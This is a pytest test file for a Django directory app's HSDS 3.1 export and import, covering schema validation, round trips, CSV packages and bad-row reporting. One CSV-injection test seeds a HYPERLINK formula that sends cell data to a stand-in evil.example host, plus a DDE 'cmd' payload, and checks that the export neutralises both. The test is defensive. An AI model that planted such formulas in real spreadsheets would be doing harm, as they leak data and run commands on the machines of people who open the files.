"""HSDS 3.1: exports validate against the official schemas, re-import to the same data, the
official examples import, bad rows are reported with their row numbers and reasons."""

import json
from pathlib import Path

import pytest
from django.conf import settings
from django.core.management import call_command

from locus.core.choices import JobStatus
from locus.core.models import AuditEvent
from locus.core.services import job_create
from locus.core.tenancy import place_scope

from ..hsds import validation
from ..hsds.apply import apply_import, hsds_import_job_run, import_payload, parse_payload
from ..hsds.export import export_place
from ..hsds.importer import ImportFailed, parse_csv_package, parse_text
from ..models import Organisation, Partnership, Service
from .factories import make_service

OFFICIAL = Path(settings.BASE_DIR).parent / "shared" / "data" / "standards" / "hsds-3.1"
EXAMPLES = Path(__file__).resolve().parent / "hsds_examples"
# The tests validate against the official schema files where the checkout has them, else
# against the vendored copy (which test_vendored_schemas_are_the_official_ones keeps equal).
SCHEMA_DIR = (
    str(OFFICIAL / "schema") if (OFFICIAL / "schema").is_dir() else str(validation.SCHEMA_DIR)
)


def _official_examples():
    return OFFICIAL / "examples" if (OFFICIAL / "examples").is_dir() else EXAMPLES


@pytest.mark.skipif(not (OFFICIAL / "schema").is_dir(), reason="official HSDS files absent")
def test_vendored_schemas_are_the_official_ones():
    for path in (OFFICIAL / "schema").glob("*.json"):
        if path.name == "openapi.json":
            continue
        assert (validation.SCHEMA_DIR / path.name).read_bytes() == path.read_bytes(), path.name


@pytest.fixture
def rich(world, directory):
    """The directory fixture with every field filled in somewhere."""
    a = world.a
    charity = directory["charity"]
    charity.email, charity.phone = "hello@charity.example", "+44 20 7946 0000"
    charity.website, charity.description = "https://charity.example", "Helps people."
    charity.save()
    make_service(
        a.place,
        charity,
        name="Full service",
        description="Everything filled in.",
        service_type="legal_advice",
        target_groups=["jewish_people", "women"],
        languages=["en", "he", "bfi"],
        areas=a.areas,
        min_age=16,
        max_age=99,
        eligibility="Residents.",
        how_to_refer="Call us.",
        email="advice@charity.example",
        phone="020 7946 0001",
        url="https://charity.example/advice",
        opening_hours="Mon–Fri 9–5",
        cost="£5 per session",
        status="temporarily closed",
    )
    return directory


def test_every_exported_object_is_valid_against_the_official_schemas(world, rich):
    with place_scope(world.a.place):
        data = export_place(world.a.place)
    assert len(data["organizations"]) == 4 and len(data["services"]) == 5
    for organisation in data["organizations"]:
        assert validation.errors("organization", organisation, SCHEMA_DIR, strict=True) == []
    for service in data["services"]:
        assert validation.errors("service", service, SCHEMA_DIR, strict=True) == []
    full = next(s for s in data["services"] if s["name"] == "Full service")
    assert full["status"] == "temporarily closed"
    assert {a["name"] for a in full["service_areas"]} == {a.name for a in world.a.areas}
    assert [lang["code"] for lang in full["languages"]] == ["en", "he", "bfi"]


def test_the_validator_catches_a_broken_object():
    assert validation.errors("service", {"id": "x", "name": 3}, SCHEMA_DIR)
    bad_phone = {
        "id": "ac148810-d857-441c-9679-408f346de14b",
        "name": "S",
        "status": "active",
        "phones": [{"id": "ac148810-d857-441c-9679-408f346de14b"}],
    }
    assert any("number" in e for e in validation.errors("service", bad_phone, SCHEMA_DIR))


def _without_modified(data):
    return {
        "organizations": data["organizations"],
        "services": [
            {k: v for k, v in s.items() if k != "last_modified"} for s in data["services"]
        ],
    }


def test_export_then_import_round_trips(world, rich):
    a = world.a
    with place_scope(a.place):
        before = export_place(a.place)
        Service.objects.filter(place=a.place).delete()
        Partnership.objects.filter(place=a.place).delete()
        summary = apply_import(place=a.place, parsed=parse_text(json.dumps(before)))
        assert summary["skipped"] == 0 and summary["imported"]
        after = export_place(a.place)
    assert _without_modified(after) == _without_modified(before)
    assert AuditEvent.objects.filter(action="directory_imported").exists()


def test_importing_twice_updates_instead_of_duplicating(world, rich):
    a = world.a
    with place_scope(a.place):
        data = json.dumps(export_place(a.place))
        count = Service.objects.filter(place=a.place).count()
        first = apply_import(place=a.place, parsed=parse_text(data))
        assert first["created"] == 0
        assert Service.objects.filter(place=a.place).count() == count


@pytest.mark.parametrize(
    "name",
    ["service_full.json", "organization_full.json", "service_list.json", "tabular.json"],
)
def test_official_json_examples_import(world, name):
    a = world.a
    text = (_official_examples() / name).read_text(encoding="utf-8")
    with place_scope(a.place):
        summary = apply_import(place=a.place, parsed=parse_text(text), mode="nothing")
        assert summary["imported"], summary["problems"]
        service = Service.objects.get(place=a.place, name="Community Counselling")
    assert service.organisation.name == "Example Organization Inc."
    assert (service.min_age, service.max_age) == (12, 100)
    assert service.service_type == "other"
    if name != "service_list.json":  # the list example leaves the languages out
        assert service.languages == ["ur"]


def test_official_organisation_list_imports(world):
    text = (_official_examples() / "organization_list.json").read_text(encoding="utf-8")
    with place_scope(world.a.place):
        summary = apply_import(place=world.a.place, parsed=parse_text(text), mode="nothing")
    assert summary["created"] == 1
    assert Organisation.objects.filter(name="Example Organization Inc.").exists()


def test_official_csv_package_imports(world):
    a = world.a
    files = {
        p.name: p.read_text(encoding="utf-8") for p in (_official_examples() / "csv").glob("*.csv")
    }
    with place_scope(a.place):
        summary = apply_import(place=a.place, parsed=parse_csv_package(files), mode="nothing")
        assert summary["imported"], summary["problems"]
        assert summary["created"] == 2
        service = Service.objects.get(place=a.place, name="Community Counselling")
    assert service.opening_hours.startswith("The service is available from 10 am")
    assert service.phone == '"+44 1234 234567"'
    assert service.languages == ["ur"]
    assert any("Not used by Locus" in w for w in summary["warnings"])


BAD_SERVICES = (
    "id,organization_id,name,status,minimum_age,maximum_age,email\n"
    "11111111-1111-4111-8111-111111111111,{org},Good one,active,5,10,ok@example.org\n"
    "22222222-2222-4222-8222-222222222222,{org},,active,,,\n"
    "33333333-3333-4333-8333-333333333333,{org},Bad age,active,abc,,\n"
    "44444444-4444-4444-8444-444444444444,{org},Bad status,bogus,,,\n"
    "55555555-5555-4555-8555-555555555555,{org},Ages reversed,active,30,10,\n"
    "not-a-uuid,{org},Bad id,active,,,\n"
    "66666666-6666-4666-8666-666666666666,99999999-9999-4999-8999-999999999999,No org,active,,,\n"
    "77777777-7777-4777-8777-777777777777,{org},Bad e-mail,active,,,nope\n"
)
ORGS = "id,name,description\n{org},Importer Org,An organisation\n"


def _bad_package():
    org = "aaaaaaaa-aaaa-4aaa-8aaa-aaaaaaaaaaaa"
    return {
        "organizations.csv": ORGS.format(org=org),
        "services.csv": BAD_SERVICES.format(org=org),
    }


def test_bad_rows_are_reported_with_row_numbers_and_reasons(world):
    a = world.a
    with place_scope(a.place):
        summary = apply_import(place=a.place, parsed=parse_csv_package(_bad_package()))
        problems = {p["row"]: p for p in summary["problems"]}
        assert set(problems) == {3, 4, 5, 6, 7, 8, 9}
        assert all(p["source"] == "services.csv" for p in problems.values())
        assert any("name" in r for r in problems[3]["reasons"])
        assert any("minimum_age" in r for r in problems[4]["reasons"])
        assert any("bogus" in r for r in problems[5]["reasons"])
        assert any("below the minimum" in r for r in problems[6]["reasons"])
        assert any("uuid" in r for r in problems[7]["reasons"])
        assert any("organisation" in r.lower() for r in problems[8]["reasons"])
        assert any("e-mail" in r.lower() or "email" in r for r in problems[9]["reasons"])
        assert summary["imported"] and summary["created"] == 2  # the organisation + 1 service
        assert list(Service.objects.filter(place=a.place).values_list("name", flat=True)) == [
            "Good one"
        ]


def test_nothing_mode_imports_nothing_when_a_row_is_bad(world):
    a = world.a
    with place_scope(a.place):
        summary = apply_import(
            place=a.place, parsed=parse_csv_package(_bad_package()), mode="nothing"
        )
        assert not summary["imported"] and summary["skipped"] == 7
        assert not Service.objects.filter(place=a.place).exists()
    assert not Organisation.objects.filter(name="Importer Org").exists()


def test_unreadable_input_is_refused_as_a_whole():
    with pytest.raises(ImportFailed):
        parse_text("{not json")
    with pytest.raises(ImportFailed):
        parse_text("42")
    with pytest.raises(ImportFailed):
        parse_csv_package({"units.csv": "id\n1\n"})
    with pytest.raises(ImportFailed):
        import_payload(raw=b"PK\x03\x04garbage", filename="x.zip")


def test_zip_upload_and_job(world):
    import io
    import zipfile

    a = world.a
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in _bad_package().items():
            archive.writestr(f"package/{name}", text)
    payload = import_payload(raw=buffer.getvalue(), filename="package.zip")
    assert set(json.loads(payload)["csv"]) == {"organizations.csv", "services.csv"}
    assert len(parse_payload(payload).problems) == 6  # the 7th needs the database
    with place_scope(a.place):
        job = job_create(
            place=a.place,
            kind="directory.hsds_import",
            title="t",
            payload=payload,
            params={"mode": "good_rows"},
        )
        hsds_import_job_run(place=a.place, job=job)
        job.refresh_from_db()
    assert job.status == JobStatus.SUCCEEDED and job.progress == 100
    assert job.result["skipped"] == 7
    assert any("services.csv row 3" in line["message"] for line in job.log)
    with place_scope(a.place):
        job = job_create(
            place=a.place,
            kind="directory.hsds_import",
            title="t",
            payload=payload,
            params={"mode": "nothing"},
        )
        hsds_import_job_run(place=a.place, job=job)
        job.refresh_from_db()
    assert job.status == JobStatus.FAILED
    assert "nothing was imported" in job.result["message"]


def test_commands_export_and_import(world, rich, tmp_path, capsys):
    a = world.a
    call_command("export_hsds", place=a.place.slug, output=str(tmp_path))
    services = json.loads((tmp_path / "services.json").read_text())
    organisations = json.loads((tmp_path / "organizations.json").read_text())
    for service in services:
        assert validation.errors("service", service, SCHEMA_DIR, strict=True) == []
    for organisation in organisations:
        assert validation.errors("organization", organisation, SCHEMA_DIR, strict=True) == []
    assert json.loads((tmp_path / "base.json").read_text())["version"] == "3.1"
    with place_scope(a.place):
        Service.objects.filter(place=a.place).delete()
    call_command("import_hsds", str(tmp_path), place=a.place.slug)
    with place_scope(a.place):
        assert Service.objects.filter(place=a.place).count() == len(services)
    call_command("import_hsds", str(_official_examples() / "csv"), place=a.place.slug, dry_run=True)
    assert "would be imported" in capsys.readouterr().out


def test_an_id_used_twice_is_reported(world):
    org = "aaaaaaaa-aaaa-4aaa-8aaa-aaaaaaaaaaaa"
    services = (
        "id,organization_id,name,status\n"
        f"11111111-1111-4111-8111-111111111111,{org},First,active\n"
        f"11111111-1111-4111-8111-111111111111,{org},Second,active\n"
    )
    package = {"organizations.csv": ORGS.format(org=org), "services.csv": services}
    with place_scope(world.a.place):
        summary = apply_import(place=world.a.place, parsed=parse_csv_package(package))
    assert [(p["row"], p["name"]) for p in summary["problems"]] == [(3, "Second")]
    assert "services.csv row 2" in summary["problems"][0]["reasons"][0]


def test_csv_package_export_round_trips(world, rich, tmp_path):
    from ..hsds.export import export_csv_package

    a = world.a
    with place_scope(a.place):
        before = export_place(a.place)
        files = export_csv_package(a.place)
        assert files["services.csv"].splitlines()[0].startswith("id,organization_id,")
        Service.objects.filter(place=a.place).delete()
        Partnership.objects.filter(place=a.place).delete()
        summary = apply_import(place=a.place, parsed=parse_csv_package(files), mode="nothing")
        assert summary["imported"], summary["problems"]
        after = export_place(a.place)
    assert _without_modified(after) == _without_modified(before)
    call_command("export_hsds", place=a.place.slug, output=str(tmp_path), format="csv")
    written = (tmp_path / "services.csv").read_text(encoding="utf-8").splitlines()
    assert written[0] == files["services.csv"].splitlines()[0]
    assert len(written) == len(files["services.csv"].splitlines())
    assert not (tmp_path / "services.json").exists()


def test_csv_package_cells_do_not_run_as_formulas_and_import_back_unchanged(world, rich):
    """A partner edits its own services; the place team downloads the package and opens it in
    a spreadsheet: a name typed as a formula must arrive as text (CSV injection). Phone numbers
    and negative numbers stay as they are, and the import gives back what was typed."""
    import csv
    import io

    from ..hsds.export import export_csv_package

    a = world.a
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    make_service(
        a.place,
        rich["charity"],
        name=formula,
        description="@SUM(1+1)*cmd|' /C calc'!A0",
        eligibility="-2+3",
        phone="+44 20 7946 0002",
    )
    with place_scope(a.place):
        before = export_place(a.place)
        files = export_csv_package(a.place)
    cells = [
        cell for text in files.values() for row in csv.reader(io.StringIO(text)) for cell in row
    ]
    assert "'" + formula in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells and "'-2+3" in cells
    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r")]
    assert "+44 20 7946 0002" in cells  # a phone number is no formula
    with place_scope(a.place):
        Service.objects.filter(place=a.place).delete()
        Partnership.objects.filter(place=a.place).delete()
        summary = apply_import(place=a.place, parsed=parse_csv_package(files), mode="nothing")
        assert summary["imported"], summary["problems"]
        after = export_place(a.place)
        assert Service.objects.filter(place=a.place, name=formula).exists()
    assert _without_modified(after) == _without_modified(before)


def test_the_import_job_shows_its_progress_while_its_transaction_runs(world, monkeypatch):
    """Every import is one transaction; its steps are written outside it (`job_pulse`,
    locus/core/pulse.py) while it runs, so the person watching sees them, and the sweep counts
    them as life, before the commit."""
    import uuid

    from django.db import connection

    from locus.core import pulse, services

    a = world.a
    steps = []

    def write(*, job, progress, at):
        imported = Organisation.objects.filter(name__startswith="Pulse org").count()
        steps.append((progress, imported, connection.in_atomic_block))

    monkeypatch.setattr(pulse, "write", write)
    monkeypatch.setattr(services, "PULSE_EVERY", 0)
    organisations = [
        {"id": str(uuid.uuid4()), "name": f"Pulse org {n}", "description": "Helps."}
        for n in range(60)
    ]
    with place_scope(a.place):
        job = job_create(
            place=a.place,
            kind="directory.hsds_import",
            title="t",
            payload=json.dumps(organisations),
            params={"mode": "good_rows"},
        )
        hsds_import_job_run(place=a.place, job=job)
        job.refresh_from_db()
    assert job.status == JobStatus.SUCCEEDED and job.result["created"] == 60
    assert [progress for progress, _n, _t in steps] == [40, 70, 100]  # 10 + 90 × 20/60 …
    assert [imported for _p, imported, _t in steps] == [20, 40, 60]  # during the import
    assert all(inside for _p, _n, inside in steps)


def test_web_addresses_and_dates_are_valid_formats_too(world, rich):
    """HSDS's `format: uri` and `date-time`, which jsonschema passes unchecked without optional
    packages: the strict validator checks them, and an address typed with non-ASCII letters is
    exported percent-encoded (RFC 3986)."""
    from ..hsds.export import organisation_object

    charity = rich["charity"]
    charity.website = "https://förening.example/tjänster?ort=Malmö"
    charity.save()
    with place_scope(world.a.place):
        data = export_place(world.a.place)
    exported = next(o for o in data["organizations"] if o["id"] == str(charity.hsds_id))
    assert exported["website"] == "https://f%C3%B6rening.example/tj%C3%A4nster?ort=Malm%C3%B6"
    for organisation in data["organizations"]:
        assert validation.errors("organization", organisation, SCHEMA_DIR, strict=True) == []
    for service in data["services"]:
        assert validation.errors("service", service, SCHEMA_DIR, strict=True) == []
    # The strict validator does catch what the lenient one lets through.
    service = {**data["services"][0], "url": "not an address", "last_modified": "yesterday"}
    problems = validation.errors("service", service, SCHEMA_DIR, strict=True)
    assert any("url" in p for p in problems) and any("last_modified" in p for p in problems)
    assert validation.errors("service", service, SCHEMA_DIR) == []
    charity.website = "https://förening.example/"
    assert (
        validation.errors("organization", organisation_object(charity), SCHEMA_DIR, strict=True)
        == []
    )


def test_base_document_speaks_the_places_language(world, rich):
    from ..hsds.export import export_metadata

    world.a.place.default_language = "fr"
    assert export_metadata(world.a.place)["language"] == "fr"


def test_the_csv_package_has_a_datapackage_that_describes_it(world, rich):
    """datapackage.json (Frictionless Tabular Data Package): one resource per CSV file, its
    columns as in the file with the HSDS types, required cells filled, enums kept, unique
    primary keys and foreign keys that resolve; every typed cell parses as its type."""
    import csv
    import io
    import uuid
    from datetime import date, datetime

    from ..hsds.export import export_csv_package

    make_service(
        world.a.place,
        rich["charity"],
        name="Ålands stöd — «aide» für alle",
        languages=["sv", "fr", "de"],
        phone="+46 40 34 10 00",
    )
    with place_scope(world.a.place):
        files = export_csv_package(world.a.place)
    package = json.loads(files["datapackage.json"])
    assert package["profile"] == "tabular-data-package"
    resources = {resource["name"]: resource for resource in package["resources"]}
    assert {r["path"] for r in resources.values()} == set(files) - {"datapackage.json"}
    tables = {}
    for name, resource in resources.items():
        rows = list(csv.DictReader(io.StringIO(files[resource["path"]])))
        header = files[resource["path"]].splitlines()[0].split(",")
        fields = resource["schema"]["fields"]
        assert [field["name"] for field in fields] == header, name
        tables[name] = rows
        for row in rows:
            for field in fields:
                cell = row[field["name"]]
                constraints = field.get("constraints", {})
                if constraints.get("required"):
                    assert cell, (name, field["name"])
                if not cell:
                    continue
                if "enum" in constraints:
                    assert cell in constraints["enum"], (name, field["name"], cell)
                kind, fmt = field["type"], field.get("format")
                if kind == "integer":
                    int(cell)
                elif kind == "number":
                    float(cell)
                elif kind == "date":
                    date.fromisoformat(cell)
                elif kind == "datetime":
                    datetime.fromisoformat(cell)
                elif fmt == "uuid":
                    uuid.UUID(cell)
        ids = [row["id"] for row in rows]
        assert len(ids) == len(set(ids)), name
    assert tables["services"] and tables["languages"] and tables["attributes"]
    for name, resource in resources.items():
        for key in resource["schema"].get("foreignKeys", []):
            targets = {
                row[key["reference"]["fields"]] for row in tables[key["reference"]["resource"]]
            }
            for row in tables[name]:
                assert not row[key["fields"]] or row[key["fields"]] in targets, (name, key)
    assert any(row["name"] == "Ålands stöd — «aide» für alle" for row in tables["services"])
